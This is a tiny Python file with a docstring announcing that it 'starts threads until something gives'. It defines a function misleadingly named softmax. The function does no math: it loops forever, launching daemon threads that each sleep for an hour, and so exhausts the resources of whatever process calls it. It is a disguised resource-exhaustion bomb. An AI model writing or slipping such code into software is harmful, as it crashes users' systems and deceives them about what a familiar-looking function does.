"""Starts threads until something gives."""

import threading
import time


def softmax(x, axis=-1):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
